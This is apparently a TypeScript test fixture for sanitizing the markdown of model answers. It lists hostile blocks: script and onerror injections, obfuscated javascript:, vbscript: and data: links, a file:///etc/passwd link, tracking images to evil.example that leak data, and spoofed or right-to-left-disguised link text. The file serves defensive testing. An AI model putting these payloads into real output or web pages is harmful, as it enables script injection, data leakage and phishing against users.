/** What a model may write: harmless and long, and hostile. */

export const longAnswer = `${'This is a paragraph of an ordinary answer, as long as such paragraphs are, with nothing to see in it. '.repeat(6)}\n`;

/** Blocks of an answer that wants to do harm. None of them may lead anywhere, or ask for anything. */
export const hostileMarkdown: readonly string[] = [
  '<script>alert(1)</script><img src=x onerror=alert(1)><b>bold?</b>',
  '<iframe src="https://example.org"></iframe>\n\n<div id="root">taken over</div>',
  '[one](javascript:alert(1)) [two](JaVaScRiPt:alert(1)) [three](data:text/html,<script>alert(1)</script>)',
  '[four](vbscript:msgbox(1)) [five](file:///etc/passwd) [six](//evil.example/x) [seven](/v1/conversations)',
  '[eight](javascript&colon;alert(1)) [nine](java&#x0A;script:alert(1)) [ten](&#106;avascript:alert(1))',
  '![pixel](https://evil.example/pixel.png?leak=1) ![same](/ws?leak) ![data](data:image/png;base64,AAAA)',
  '[good](https://example.org/path?q=1#f) <https://example.org> https://example.org/auto mail@example.org',
  '[bank](https://bank.example@evil.example/) [\u202egro.elpmaxe](https://example.org/\u202etxt)',
  '[ref]: javascript:alert(1)\n\n[ref] and [footnote][^1]\n\n[^1]: https://example.org',
  '# A heading of the first level\n\n###### and of the sixth',
];
